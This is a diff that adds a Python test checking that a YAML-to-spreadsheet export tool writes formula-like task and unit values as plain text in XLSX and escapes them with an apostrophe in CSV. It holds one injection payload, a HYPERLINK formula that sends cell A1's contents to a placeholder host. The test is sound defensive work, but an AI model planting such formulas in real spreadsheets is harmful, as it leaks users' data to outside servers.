@@ -543,3 +543,33 @@ def test_an_unwritable_output_exits_1(tmp_path: Path) -> None:
     blocker.write_text("", encoding="utf-8")
     code, output = run(str(INPUTS[0]), "-o", str(blocker / "t.json"))
     assert code == 1 and "không ghi được" in output
+
+
+# Issue 15 #5: formula injection
+
+
+def test_formulas_in_tasks_are_written_as_text(tmp_path: Path) -> None:
+    """A task "=HYPERLINK(…)" or a unit "=1+2" was a formula in the XLSX (and a sheet named "=1+2");
+    the CSV left it as is. Now: text cells in XLSX, an apostrophe before = + - @ in CSV (OWASP)."""
+    task = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    text = (
+        DEADLINES.replace("ISSUE", "2022-01-05")
+        .replace("MEETING", "2021-12-29")
+        .replace('{task: Việc một., lead: Cục Tin học hóa, deadline: "DEADLINE"}', f"{{task: '{task}', lead: '=1+2'}}")
+    )
+    path = write_yaml(tmp_path, "a.yaml", text)
+    book_path, csv_path = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    for out in (book_path, csv_path):
+        code, output = run(str(path), "-o", str(out))
+        assert code == 0, output
+    book = load_workbook(book_path)
+    assert "=1+2" not in book.sheetnames and "1+2" in book.sheetnames
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    first = book.worksheets[0]
+    values = [cell.value for cell in first[2]]
+    assert task in values and "=1+2" in values  # shown exactly as typed, as text
+    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"))))
+    assert "'" + task in rows[1] and "'=1+2" in rows[1]
